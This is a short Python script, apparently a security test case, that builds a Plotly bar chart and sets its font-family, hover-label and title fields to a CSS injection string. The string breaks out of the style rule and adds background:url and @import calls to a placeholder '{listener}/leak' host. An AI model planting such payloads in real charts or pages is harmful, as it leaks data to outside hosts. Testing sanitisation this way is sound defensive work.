# outcome: ok
# figure: drawn
import plotly.graph_objects as go
bad = "red;} * {background:url(http://{listener}/leak)} @import url(http://{listener}/leak); x{"
fig = go.Figure(go.Bar(x=["a"], y=[1], text="x", textfont_family=bad))
fig.update_layout(font_family=bad, hoverlabel_font_family=bad, title_font_family="url(http://{listener}/leak)", uirevision=bad)
